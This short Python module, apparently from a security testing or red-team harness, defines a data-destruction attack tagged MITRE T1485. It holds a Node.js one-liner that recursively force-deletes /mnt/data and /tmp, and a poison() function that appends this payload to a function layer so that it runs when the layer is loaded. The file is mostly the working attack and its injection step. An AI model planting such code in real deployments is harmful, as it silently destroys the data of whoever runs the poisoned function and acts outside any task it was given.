# SPDX-License-Identifier: Apache-2.0
"""Sabotage: deletes what the function can write when it is loaded."""

ATTACK = "T1485"
LANGUAGE = "node"
CODE = """\

;['/mnt/data', '/tmp'].forEach((folder) => require('fs').rmSync(folder, { recursive: true, force: true }));
"""


def poison(layer):
    layer.append(CODE)
